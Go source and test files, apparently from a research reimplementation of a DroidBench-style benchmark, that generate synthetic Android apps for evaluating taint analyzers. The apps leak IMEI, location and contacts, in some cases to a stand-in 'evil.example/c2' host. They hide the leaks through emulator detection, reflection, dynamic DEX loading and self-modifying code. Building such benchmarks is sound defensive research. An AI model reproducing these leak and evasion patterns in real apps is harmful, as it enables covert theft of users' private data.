					a.InvokeDirect(ldesc, "<init>", "()V", 2)
					a.IPutObject(a.This(), 2, ldesc, "act", "Landroid/app/Activity;")
					a.InvokeVirtual("Landroid/view/View;", "setOnClickListener",
						"(Landroid/view/View$OnClickListener;)V", 1, 2)
				}
				a.ReturnVoid()
			})
			return p.BuildAPK("de.droidbench."+name, "1.0", desc)
		})
	}
	return []*Sample{
		mk("Button1", 1, "log"),
		mk("Button3", 2, "sms"),
		mk("Callback3", 1, "http"),
		mk("Callback4", 1, "file"),
		mk("Callback5", 1, "log"),
		mk("Callback6", 1, "sms"),
	}
}

func switchFlows() []*Sample {
	var out []*Sample
	for i := 1; i <= 4; i++ {
		name := fmt.Sprintf("SwitchFlow%d", i)
		src := sourceKinds[i%len(sourceKinds)]
		out = append(out, leakySample(name, "switch", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.InvokeVirtual("Ljava/lang/String;", "length", "()I", 0)
					a.MoveResult(1)
					a.BinopLit8(bytecode.OpRemIntLit8, 1, 1, 3)
					a.SparseSwitch(1, []int32{0, 1, 2}, []string{"s0", "s1", "s2"})
					a.ReturnVoid()
					a.Label("s0")
					emitSink(a, "log", 0, 2)
					a.ReturnVoid()
					a.Label("s1")
					emitSink(a, "http", 0, 2)
					a.ReturnVoid()
					a.Label("s2")
					emitSink(a, "file", 0, 2)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

// catchFlows route the tainted data through exception handlers.
func catchFlows() []*Sample {
	var out []*Sample
	for i := 1; i <= 4; i++ {
		name := fmt.Sprintf("CatchFlow%d", i)
		src := sourceKinds[(i+1)%len(sourceKinds)]
		sink := sinkKinds[(i+1)%len(sinkKinds)]
		out = append(out, leakySample(name, "catch", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.Label("try_start")
					a.Const(1, 0)
					a.Const(2, 1)
					a.Binop(bytecode.OpDivInt, 3, 2, 1) // always throws
					a.Label("try_end")
					a.ReturnVoid()
					a.Label("handler")
					a.MoveException(4)
					emitSink(a, sink, 0, 1)
					a.ReturnVoid()
					a.Catch("try_start", "try_end", "Ljava/lang/ArithmeticException;", "handler")
				})
			})))
	}
	return out
}

func lifecycleFlows() []*Sample {
	pairs := [][2]string{
		{"onCreate", "onStart"}, {"onCreate", "onResume"}, {"onStart", "onResume"},
		{"onCreate", "onPause"}, {"onResume", "onPause"}, {"onCreate", "onStop"},
	}
	var out []*Sample
	for i, pr := range pairs {
		name := fmt.Sprintf("Lifecycle%d", i+1)
		writer, reader := pr[0], pr[1]
		src := sourceKinds[i%len(sourceKinds)]
		sink := sinkKinds[i%len(sinkKinds)]
		out = append(out, leakySample(name, "lifecycle", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				desc := activityDesc(name)
				cls.Field("held", "Ljava/lang/String;")
				writeGen := func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.IPutObject(0, a.This(), desc, "held", "Ljava/lang/String;")
					a.ReturnVoid()
				}
				readGen := func(a *dexgen.Asm) {
					a.IGetObject(0, a.This(), desc, "held", "Ljava/lang/String;")
					emitSink(a, sink, 0, 1)
					a.ReturnVoid()
				}
				if writer == "onCreate" {
					cls.Virtual(writer, "V", []string{"Landroid/os/Bundle;"}, writeGen)
				} else {
					cls.Virtual(writer, "V", nil, writeGen)
				}
				cls.Virtual(reader, "V", nil, readGen)
			})))
	}
	return out
}

func branchingFlows() []*Sample {
	var out []*Sample
	for i := 1; i <= 5; i++ {
		name := fmt.Sprintf("Branching%d", i)
		src := sourceKinds[(i+4)%len(sourceKinds)]
		sink := sinkKinds[(i+2)%len(sinkKinds)]
		out = append(out, leakySample(name, "branching", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					// The leak sits behind a condition that is true at
					// runtime (the intent carries no "optout" extra).
					a.InvokeVirtual("Landroid/app/Activity;", "getIntent",
						"()Landroid/content/Intent;", a.This())
					a.MoveResultObject(0)
					a.ConstString(1, "optout")
					a.InvokeVirtual("Landroid/content/Intent;", "getStringExtra",
						"(Ljava/lang/String;)Ljava/lang/String;", 0, 1)
					a.MoveResultObject(2)
					a.IfZ(bytecode.OpIfNez, 2, "skip")
					emitSource(a, src, 3, 4)
					emitSink(a, sink, 3, 4)
					a.Label("skip")
					a.ReturnVoid()
				})
			})))
	}
	return out
}

func emulatorDetection1() []*Sample {
	name := "EmulatorDetection1"
	return []*Sample{leakySample(name, "emulator", 1,
		newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
			cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
				a.SGetObject(0, "Landroid/os/Build;", "HARDWARE", "Ljava/lang/String;")
				a.ConstString(1, "goldfish")
				a.InvokeVirtual("Ljava/lang/String;", "equals",
					"(Ljava/lang/Object;)Z", 0, 1)
				a.MoveResult(2)
				a.IfZ(bytecode.OpIfNez, 2, "bail") // emulator: stay silent
				emitSource(a, "imei", 3, 4)
				emitSink(a, "log", 3, 4)
				a.Label("bail")
				a.ReturnVoid()
			})
		}))}
}

func privateDataLeak3() []*Sample {
	name := "PrivateDataLeak3"
	return []*Sample{leakySample(name, "storage", 2,
		newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
			cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
				emitSource(a, "imei", 0, 1)
				// Flow 1: the external-storage write is itself a sink;
				// every tested tool catches it.
				a.ConstString(1, "/sdcard/cache.txt")
				a.InvokeStatic("Ljava/io/FileUtil;", "writeExternal",
					"(Ljava/lang/String;Ljava/lang/String;)V", 1, 0)
				// Flow 2: read the file back and text it out; the round
				// trip severs every tested tool's tracking.
				a.InvokeStatic("Ljava/io/FileUtil;", "readExternal",
					"(Ljava/lang/String;)Ljava/lang/String;", 1)
				a.MoveResultObject(2)
				emitSink(a, "sms", 2, 0)
				a.ReturnVoid()
			})
		}))}
}
