// Package droidbench generates the benchmark suite of the paper's
// evaluation: 134 applications — the 119-sample DroidBench release plus the
// authors' 15 contributed samples covering advanced reflection (5), dynamic
// loading (3), self-modifying code (4) and unreachable taint flows (3).
// Every sample is a real application built through dexgen: ground truth is
// by construction, executions are driven in the runtime substrate, and the
// per-tool detection results of Tables II/III/IV emerge from actually
// analyzing the (original, dumped, or revealed) bytecode.
package droidbench

import (
	"fmt"
	"sort"

	"dexlego/internal/apimodel"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/dexgen"
)

// Sample is one benchmark application.
type Sample struct {
	Name        string
	Category    string
	Contributed bool
	Leaky       bool // ground truth
	LeakCount   int  // number of ground-truth flows (Table IV granularity)

	build   func() (*apk.APK, error)
	natives map[string]art.NativeFunc
}

// Build constructs the sample APK.
func (s *Sample) Build() (*apk.APK, error) {
	pkg, err := s.build()
	if err != nil {
		return nil, fmt.Errorf("droidbench: build %s: %w", s.Name, err)
	}
	return pkg, nil
}

// InstallNatives registers the sample's JNI functions (self-modifying and
// native-leak samples), if any.
func (s *Sample) InstallNatives(rt *art.Runtime) {
	for key, fn := range s.natives {
		rt.RegisterNative(key, fn)
	}
}

// Natives returns the sample's native registrations keyed by method key.
func (s *Sample) Natives() map[string]art.NativeFunc { return s.natives }

// Suite returns all 134 samples in deterministic order.
func Suite() []*Sample {
	var all []*Sample
	all = append(all, plainSamples()...)
	all = append(all, specialSamples()...)
	all = append(all, contributedSamples()...)
	all = append(all, benignSamples()...)
	sort.Slice(all, func(i, j int) bool { return all[i].Name < all[j].Name })
	return all
}

// ByName returns the named sample, or nil.
func ByName(name string) *Sample {
	for _, s := range Suite() {
		if s.Name == name {
			return s
		}
	}
	return nil
}

// Counts returns the suite size and the number of leaky (malware) samples —
// the first two columns of Tables II and III.
func Counts() (total, malware int) {
	for _, s := range Suite() {
		total++
		if s.Leaky {
			malware++
		}
	}
	return total, malware
}

// --- shared generator helpers -----------------------------------------------

// sourceKinds and sinkKinds name the API families used by the generators.
var sourceKinds = []string{"imei", "sim", "location", "ssid", "contacts"}

var sinkKinds = []string{"log", "sms", "http", "file"}

// sourceTaint maps a source kind name to its taint label.
func sourceTaint(kind string) apimodel.TaintKind {
	switch kind {
	case "imei":
		return apimodel.TaintIMEI
	case "sim":
		return apimodel.TaintSIM
	case "location":
		return apimodel.TaintLocation
	case "ssid":
		return apimodel.TaintSSID
	case "contacts":
		return apimodel.TaintContacts
	default:
		return 0
	}
}

// emitSource loads sensitive data of the given kind into dst. It clobbers
// scratch and scratch+1 and requires `this` to be an Activity.
func emitSource(a *dexgen.Asm, kind string, dst, scratch int32) {
	service := map[string]string{
		"imei": "phone", "sim": "phone", "location": "location",
		"ssid": "wifi", "contacts": "contacts",
	}[kind]
	a.ConstString(scratch, service)
	a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
		"(Ljava/lang/String;)Ljava/lang/Object;", a.This(), scratch)
	a.MoveResultObject(scratch)
	switch kind {
	case "imei":
		a.CheckCast(scratch, "Landroid/telephony/TelephonyManager;")
		a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
			"()Ljava/lang/String;", scratch)
	case "sim":
		a.CheckCast(scratch, "Landroid/telephony/TelephonyManager;")
		a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getSimSerialNumber",
			"()Ljava/lang/String;", scratch)
	case "location":
		a.CheckCast(scratch, "Landroid/location/LocationManager;")
		a.ConstString(scratch+1, "gps")
		a.InvokeVirtual("Landroid/location/LocationManager;", "getLastKnownLocation",
			"(Ljava/lang/String;)Landroid/location/Location;", scratch, scratch+1)
		a.MoveResultObject(scratch)
		a.InvokeVirtual("Landroid/location/Location;", "toString",
			"()Ljava/lang/String;", scratch)
	case "ssid":
		a.CheckCast(scratch, "Landroid/net/wifi/WifiManager;")
		a.InvokeVirtual("Landroid/net/wifi/WifiManager;", "getConnectionInfo",
			"()Landroid/net/wifi/WifiInfo;", scratch)
		a.MoveResultObject(scratch)
		a.InvokeVirtual("Landroid/net/wifi/WifiInfo;", "getSSID",
			"()Ljava/lang/String;", scratch)
	case "contacts":
		a.CheckCast(scratch, "Landroid/content/ContactsReader;")
		a.InvokeVirtual("Landroid/content/ContactsReader;", "query",
			"()Ljava/lang/String;", scratch)
	}
	a.MoveResultObject(dst)
}

// emitSink sends the string in msg to the given sink kind. Scratch
// registers are chosen internally so the message register is never
// clobbered; the passed scratch hint is accepted for readability at call
// sites but ignored. SMS emission uses registers 0..5 (and moves the
// message into that window first), so it must be the last use of those
// registers in the method.
func emitSink(a *dexgen.Asm, kind string, msg, scratch int32) {
	_ = scratch
	s := int32(0)
	if msg == 0 {
		s = 1
	}
	switch kind {
	case "log":
		a.LogLeak("bench", msg, s)
	case "sms":
		a.SendSMS("800-555-0100", msg, 0)
	case "http":
		a.ConstString(s, "http://evil.example/c2")
		a.InvokeStatic("Landroid/net/http/HttpClient;", "post",
			"(Ljava/lang/String;Ljava/lang/String;)V", s, msg)
	case "file":
		a.ConstString(s, "/sdcard/exfil.txt")
		a.InvokeStatic("Ljava/io/FileUtil;", "writeExternal",
			"(Ljava/lang/String;Ljava/lang/String;)V", s, msg)
	}
}

// newActivityApp scaffolds a one-activity program and returns the builder
// pieces. gen fills in the activity class.
func newActivityApp(name string, gen func(p *dexgen.Program, cls *dexgen.Class)) func() (*apk.APK, error) {
	desc := "Lde/droidbench/" + name + ";"
	return func() (*apk.APK, error) {
		p := dexgen.New()
		cls := p.Class(desc, "Landroid/app/Activity;")
		cls.Source(name + ".java")
		cls.Ctor("Landroid/app/Activity;", nil)
		gen(p, cls)
		return p.BuildAPK("de.droidbench."+name, "1.0", desc)
	}
}

// activityDesc returns the descriptor used by newActivityApp.
func activityDesc(name string) string { return "Lde/droidbench/" + name + ";" }
