package droidbench_test

import (
	"errors"
	"testing"

	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/droidbench"
	"dexlego/internal/taint"

	root "dexlego"
)

func TestSuiteComposition(t *testing.T) {
	total, malware := droidbench.Counts()
	if total != 134 {
		t.Errorf("suite size = %d, want 134", total)
	}
	if malware != 111 {
		t.Errorf("malware count = %d, want 111", malware)
	}
	contributed := 0
	names := map[string]bool{}
	for _, s := range droidbench.Suite() {
		if names[s.Name] {
			t.Errorf("duplicate sample name %s", s.Name)
		}
		names[s.Name] = true
		if s.Contributed {
			contributed++
		}
		if s.Leaky && s.LeakCount == 0 {
			t.Errorf("%s: leaky sample with zero leak count", s.Name)
		}
	}
	if contributed != 15 {
		t.Errorf("contributed samples = %d, want 15", contributed)
	}
	for _, name := range []string{
		"Button1", "Button3", "EmulatorDetection1", "ImplicitFlow1", "PrivateDataLeak3",
	} {
		if droidbench.ByName(name) == nil {
			t.Errorf("Table IV sample %s missing", name)
		}
	}
	if droidbench.ByName("NoSuchSample") != nil {
		t.Error("ByName returned a ghost")
	}
}

// TestAllSamplesBuildAndRun executes every sample end to end under the
// default DexLego driver: build, load, drive, and ensure the runtime
// finishes without infrastructure errors.
func TestAllSamplesBuildAndRun(t *testing.T) {
	for _, s := range droidbench.Suite() {
		s := s
		t.Run(s.Name, func(t *testing.T) {
			pkg, err := s.Build()
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			rt := art.NewRuntime(art.DefaultPhone())
			s.InstallNatives(rt)
			if err := rt.LoadAPK(pkg); err != nil {
				t.Fatalf("load: %v", err)
			}
			if err := root.DefaultDriver(rt); err != nil {
				var thrown *art.ThrownError
				if errors.As(err, &thrown) {
					t.Fatalf("app threw: %v", err)
				}
				t.Fatalf("drive: %v", err)
			}
			// Ground-truth sanity: leaky samples that advertise dynamic
			// observability must produce a tainted sink event (except the
			// categories whose leaks are invisible to dynamic taint:
			// implicit flows, the tablet gate, severed round trips and
			// native-internal leaks are checked separately).
			switch s.Category {
			case "direct", "interproc", "field", "staticfield", "loop",
				"array", "builder", "callback", "switch", "catch",
				"lifecycle", "branching", "widget", "reflection-call",
				"reflection-field", "adv-reflection", "dynamic-loading":
				leaky := false
				for _, ev := range rt.Sinks() {
					if ev.Leaky() {
						leaky = true
					}
				}
				if !leaky {
					t.Errorf("no tainted sink event observed at runtime")
				}
			case "clean", "aliasing", "widget-confusion", "rare-lifecycle",
				"implicit-noise", "unreachable", "dead-callback":
				for _, ev := range rt.Sinks() {
					if ev.Leaky() {
						t.Errorf("benign sample produced tainted sink: %+v", ev)
					}
				}
			}
		})
	}
}

// TestRevealAllSamples runs the full DexLego pipeline on every sample and
// checks the revealed DEX parses and reloads.
func TestRevealAllSamples(t *testing.T) {
	for _, s := range droidbench.Suite() {
		s := s
		t.Run(s.Name, func(t *testing.T) {
			pkg, err := s.Build()
			if err != nil {
				t.Fatal(err)
			}
			res, err := root.Reveal(pkg, root.Options{Natives: s.Natives()})
			if err != nil {
				t.Fatalf("reveal: %v", err)
			}
			if res.RevealedDex == nil || len(res.RevealedDex.Classes) == 0 {
				t.Fatal("empty revealed dex")
			}
			rt := art.NewRuntime(art.DefaultPhone())
			s.InstallNatives(rt)
			if err := rt.LoadAPK(res.Revealed); err != nil {
				t.Fatalf("revealed apk does not reload: %v", err)
			}
		})
	}
}

// TestSpotVerdicts checks a few hand-picked samples against the expected
// per-tool verdicts on the ORIGINAL APK.
func TestSpotVerdicts(t *testing.T) {
	cases := []struct {
		name       string
		fd, ds, hd bool
	}{
		{"DirectLeak1", true, true, true},
		{"ImplicitFlow1", false, false, true},
		{"Widget1", false, true, true},
		{"Reflection1", false, true, true},
		{"Reflection5", false, false, true},
		{"AdvReflection1", false, false, false},
		{"DexLoading1", false, false, false},
		{"SelfModifying1", false, false, false},
		{"TabletReflection1", false, false, false},
		{"Clean1", false, false, false},
		{"Aliasing1", true, true, false},
		{"WidgetConfusion1", false, true, false},
		{"LowMemory1", true, false, false},
		{"ImplicitNoise1", false, false, true},
		{"UnreachableFlow1", true, true, true},
		{"DeadCallback1", true, true, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := droidbench.ByName(tc.name)
			if s == nil {
				t.Fatal("sample missing")
			}
			pkg, err := s.Build()
			if err != nil {
				t.Fatal(err)
			}
			data, err := pkg.Dex()
			if err != nil {
				t.Fatal(err)
			}
			f, err := dex.Read(data)
			if err != nil {
				t.Fatal(err)
			}
			want := map[string]bool{
				"FlowDroid": tc.fd, "DroidSafe": tc.ds, "HornDroid": tc.hd,
			}
			for _, p := range taint.Profiles() {
				res, err := taint.Analyze([]*dex.File{f}, p)
				if err != nil {
					t.Fatal(err)
				}
				if res.Leaky() != want[p.Name] {
					t.Errorf("%s on original = %v, want %v (flows: %v)",
						p.Name, res.Leaky(), want[p.Name], res.Flows)
				}
			}
		})
	}
}

// TestForceExecutionFalsePositiveTradeoff demonstrates the limitation the
// paper states in Section VII: the coverage improvement module "may
// introduce additional false positives on the unreachable code paths caused
// by unrealistic input". Revealing UnreachableFlow1 with the default driver
// drops its dead-branch flow (removing the static FP); revealing it under
// force execution collects the forced dead branch and the FP returns.
func TestForceExecutionFalsePositiveTradeoff(t *testing.T) {
	s := droidbench.ByName("UnreachableFlow1")
	if s == nil || s.Leaky {
		t.Fatal("UnreachableFlow1 must exist and be benign")
	}
	pkg, err := s.Build()
	if err != nil {
		t.Fatal(err)
	}
	plain, err := root.Reveal(pkg, root.Options{})
	if err != nil {
		t.Fatal(err)
	}
	forced, err := root.Reveal(pkg, root.Options{ForceExecution: true})
	if err != nil {
		t.Fatal(err)
	}
	for _, tool := range taint.Profiles() {
		rPlain, err := taint.Analyze([]*dex.File{plain.RevealedDex}, tool)
		if err != nil {
			t.Fatal(err)
		}
		rForced, err := taint.Analyze([]*dex.File{forced.RevealedDex}, tool)
		if err != nil {
			t.Fatal(err)
		}
		if rPlain.Leaky() {
			t.Errorf("%s: plain reveal kept the dead-code FP", tool.Name)
		}
		if !rForced.Leaky() {
			t.Errorf("%s: force-executed reveal should reintroduce the FP (the paper's coverage/precision trade-off)", tool.Name)
		}
	}
}

// TestRemoveHooksDetaches verifies instrumentation can be detached.
func TestRemoveHooksDetaches(t *testing.T) {
	s := droidbench.ByName("DirectLeak1")
	pkg, err := s.Build()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	count := 0
	h := &art.Hooks{Instruction: func(m *art.Method, pc int, insns []uint16, in *bytecode.Inst) { count++ }}
	rt.AddHooks(h)
	rt.RemoveHooks(h)
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.LaunchActivity(); err != nil {
		t.Fatal(err)
	}
	if count != 0 {
		t.Errorf("detached hook fired %d times", count)
	}
}
