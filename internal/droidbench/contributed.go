package droidbench

import (
	"fmt"

	"dexlego/internal/apimodel"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

// contributedSamples returns the 15 samples the paper's authors added to
// DroidBench: 5 advanced-reflection, 3 dynamic-loading, 4 self-modifying,
// and 3 unreachable-taint-flow samples. No current static tool analyzes
// them precisely on the original APK.
func contributedSamples() []*Sample {
	var out []*Sample
	out = append(out, advReflectionSamples()...)
	out = append(out, dexLoadingSamples()...)
	out = append(out, selfModifyingSamples()...)
	out = append(out, unreachableFlowSamples()...)
	return out
}

func contributed(s *Sample) *Sample {
	s.Contributed = true
	return s
}

// advReflectionSamples: targets resolved through computed names or method
// enumeration. AdvReflection1-3 become analyzable once DexLego rewrites the
// call to a direct one; 4 and 5 stay dark even revealed (file round trip /
// native code).
func advReflectionSamples() []*Sample {
	var out []*Sample

	// 1, 2: class and method names decrypted at runtime.
	for i := 1; i <= 2; i++ {
		name := fmt.Sprintf("AdvReflection%d", i)
		sink := sinkKinds[i%len(sinkKinds)]
		src := sourceKinds[i%len(sourceKinds)]
		out = append(out, contributed(leakySample(name, "adv-reflection", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				addSecretSource(cls, src)
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitComputedString(a, dotted(name), 0, 2, 3)
					emitComputedString(a, "secretSource", 1, 2, 3)
					emitReflectiveCall(a, 0, 1, 4)
					emitSink(a, sink, 4, 0)
					a.ReturnVoid()
				})
			}))))
	}

	// 3: no string at all — getDeclaredMethods enumeration.
	name3 := "AdvReflection3"
	out = append(out, contributed(leakySample(name3, "adv-reflection", 1,
		newActivityApp(name3, func(p *dexgen.Program, cls *dexgen.Class) {
			// The helper class has exactly one method, so [0] is the target.
			helper := p.Class("Lde/droidbench/AdvReflection3$T;", "")
			helper.Ctor("Ljava/lang/Object;", nil)
			helper.Field("act", "Landroid/app/Activity;")
			helper.Virtual("grab", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
				a.IGetObject(6, a.This(), "Lde/droidbench/AdvReflection3$T;", "act",
					"Landroid/app/Activity;")
				a.ConstString(7, "phone")
				a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
					"(Ljava/lang/String;)Ljava/lang/Object;", 6, 7)
				a.MoveResultObject(7)
				a.CheckCast(7, "Landroid/telephony/TelephonyManager;")
				a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
					"()Ljava/lang/String;", 7)
				a.MoveResultObject(0)
				a.ReturnObj(0)
			})
			cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
				a.NewInstance(0, "Lde/droidbench/AdvReflection3$T;")
				a.InvokeDirect("Lde/droidbench/AdvReflection3$T;", "<init>", "()V", 0)
				a.IPutObject(a.This(), 0, "Lde/droidbench/AdvReflection3$T;", "act",
					"Landroid/app/Activity;")
				a.InvokeVirtual("Ljava/lang/Object;", "getClass", "()Ljava/lang/Class;", 0)
				a.MoveResultObject(1)
				a.InvokeVirtual("Ljava/lang/Class;", "getDeclaredMethods",
					"()[Ljava/lang/reflect/Method;", 1)
				a.MoveResultObject(1)
				a.Const(2, 0)
				a.Label("scan") // skip constructors: find "grab" by arity
				a.AGet(bytecode.OpAGetObject, 3, 1, 2)
				a.InvokeVirtual("Ljava/lang/reflect/Method;", "getName",
					"()Ljava/lang/String;", 3)
				a.MoveResultObject(4)
				a.InvokeVirtual("Ljava/lang/String;", "length", "()I", 4)
				a.MoveResult(4)
				a.Const(5, 4) // "grab"
				a.If(bytecode.OpIfEq, 4, 5, "found")
				a.AddLit(2, 2, 1)
				a.Goto("scan")
				a.Label("found")
				a.Const(5, 0)
				a.InvokeVirtual("Ljava/lang/reflect/Method;", "invoke",
					"(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", 3, 0, 5)
				a.MoveResultObject(6)
				a.CheckCast(6, "Ljava/lang/String;")
				emitSink(a, "log", 6, 7)
				a.ReturnVoid()
			})
		}))))

	// 4 (hard even revealed): the reflective target leaks through the
	// external-storage round trip.
	name4 := "AdvReflection4"
	out = append(out, contributed(leakySample(name4, "adv-reflection-hard", 1,
		newActivityApp(name4, func(p *dexgen.Program, cls *dexgen.Class) {
			cls.Virtual("roundTrip", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
				emitSource(a, "imei", 0, 1)
				a.ConstString(1, "tmp.bin")
				a.InvokeStatic("Ljava/io/FileUtil;", "writeInternal",
					"(Ljava/lang/String;Ljava/lang/String;)V", 1, 0)
				a.InvokeStatic("Ljava/io/FileUtil;", "readInternal",
					"(Ljava/lang/String;)Ljava/lang/String;", 1)
				a.MoveResultObject(2)
				a.ReturnObj(2)
			})
			cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
				emitComputedString(a, dotted(name4), 0, 2, 3)
				emitComputedString(a, "roundTrip", 1, 2, 3)
				emitReflectiveCall(a, 0, 1, 4)
				emitSink(a, "sms", 4, 0)
				a.ReturnVoid()
			})
		}))))

	// 5 (hard even revealed): the reflective target is a native method that
	// leaks internally; bytecode-level analysis cannot look inside.
	name5 := "AdvReflection5"
	s5 := contributed(leakySample(name5, "adv-reflection-hard", 1,
		newActivityApp(name5, func(p *dexgen.Program, cls *dexgen.Class) {
			cls.NativeM("nativeLeak", "Ljava/lang/Object;", nil, true)
			cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
				emitComputedString(a, dotted(name5), 0, 2, 3)
				emitComputedString(a, "nativeLeak", 1, 2, 3)
				emitReflectiveCall(a, 0, 1, 4)
				a.ReturnVoid()
			})
		})))
	s5.natives = map[string]art.NativeFunc{
		activityDesc(name5) + "->nativeLeak()Ljava/lang/Object;": func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			imei := env.NewStringTainted(env.Device().IMEI, apimodel.TaintIMEI)
			logM, err := env.MethodOf("Landroid/util/Log;", "i",
				"(Ljava/lang/String;Ljava/lang/String;)I")
			if err != nil {
				return art.Value{}, err
			}
			tag := env.NewString("native")
			if _, err := env.Call(logM, nil, []art.Value{art.RefVal(tag), art.RefVal(imei)}); err != nil {
				return art.Value{}, err
			}
			return art.NullVal(), nil
		},
	}
	out = append(out, s5)
	return out
}

// dexLoadingSamples hide the leaking class in an encrypted-by-absence
// payload DEX loaded at runtime.
func dexLoadingSamples() []*Sample {
	var out []*Sample
	for i := 1; i <= 3; i++ {
		name := fmt.Sprintf("DexLoading%d", i)
		sink := sinkKinds[i%len(sinkKinds)]
		payloadDesc := fmt.Sprintf("Lde/droidbench/payload/Evil%d;", i)
		out = append(out, contributed(leakySample(name, "dynamic-loading", 1,
			func() (*apk.APK, error) {
				payload := dexgen.New()
				evil := payload.Class(payloadDesc, "")
				sinkKind := sink
				evil.Static("run", "V", []string{"Landroid/app/Activity;"}, func(a *dexgen.Asm) {
					a.ConstString(0, "phone")
					a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
						"(Ljava/lang/String;)Ljava/lang/Object;", a.P(0), 0)
					a.MoveResultObject(0)
					a.CheckCast(0, "Landroid/telephony/TelephonyManager;")
					a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
						"()Ljava/lang/String;", 0)
					a.MoveResultObject(1)
					emitSink(a, sinkKind, 1, 2)
					a.ReturnVoid()
				})
				payloadBytes, err := payload.Bytes()
				if err != nil {
					return nil, err
				}
				host := dexgen.New()
				desc := activityDesc(name)
				cls := host.Class(desc, "Landroid/app/Activity;")
				cls.Ctor("Landroid/app/Activity;", nil)
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					a.NewInstance(0, "Ldalvik/system/DexClassLoader;")
					a.ConstString(1, "payload.dex")
					a.InvokeDirect("Ldalvik/system/DexClassLoader;", "<init>",
						"(Ljava/lang/String;)V", 0, 1)
					a.InvokeStatic(payloadDesc, "run", "(Landroid/app/Activity;)V", a.This())
					a.ReturnVoid()
				})
				pkg, err := host.BuildAPK("de.droidbench."+name, "1.0", desc)
				if err != nil {
					return nil, err
				}
				pkg.AddAsset("payload.dex", payloadBytes)
				return pkg, nil
			})))
	}
	return out
}

// selfModifyingSamples reproduce Code 1: native code rewrites advancedLeak's
// call site between loop iterations. Samples 1-2 are revealed fully by
// instruction-level collection; 3-4 keep their flow dark even revealed (the
// modified code leaks through the file round trip or native code).
func selfModifyingSamples() []*Sample {
	mk := func(idx int, leakVia string) *Sample {
		name := fmt.Sprintf("SelfModifying%d", idx)
		desc := activityDesc(name)
		s := contributed(leakySample(name, "self-modifying", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Native("bytecodeTamper", "V", "I")
				addSecretSource(cls, "imei")
				cls.Virtual("normal", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
					a.ReturnVoid()
				})
				cls.Virtual("sink", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
					switch leakVia {
					case "sms":
						emitSink(a, "sms", a.P(0), 0)
					case "http":
						emitSink(a, "http", a.P(0), 0)
					case "file-roundtrip":
						a.ConstString(0, "sm.bin")
						a.InvokeStatic("Ljava/io/FileUtil;", "writeInternal",
							"(Ljava/lang/String;Ljava/lang/String;)V", 0, a.P(0))
						a.InvokeStatic("Ljava/io/FileUtil;", "readInternal",
							"(Ljava/lang/String;)Ljava/lang/String;", 0)
						a.MoveResultObject(1)
						emitSink(a, "sms", 1, 2)
					case "native":
						a.InvokeVirtual(desc, "nativeSink",
							"(Ljava/lang/String;)V", a.This(), a.P(0))
					}
					a.ReturnVoid()
				})
				if leakVia == "native" {
					cls.NativeM("nativeSink", "V", []string{"Ljava/lang/String;"}, true)
				}
				cls.Virtual("advancedLeak", "V", nil, func(a *dexgen.Asm) {
					a.InvokeVirtual(desc, "secretSource", "()Ljava/lang/String;", a.This())
					a.MoveResultObject(0)
					a.Const(1, 0)
					a.Label("loop")
					a.Const(2, 2)
					a.If(bytecode.OpIfGe, 1, 2, "end")
					a.InvokeVirtual(desc, "normal", "(Ljava/lang/String;)V", a.This(), 0)
					a.InvokeVirtual(desc, "bytecodeTamper", "(I)V", a.This(), 1)
					a.AddLit(1, 1, 1)
					a.Goto("loop")
					a.Label("end")
					a.ReturnVoid()
				})
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
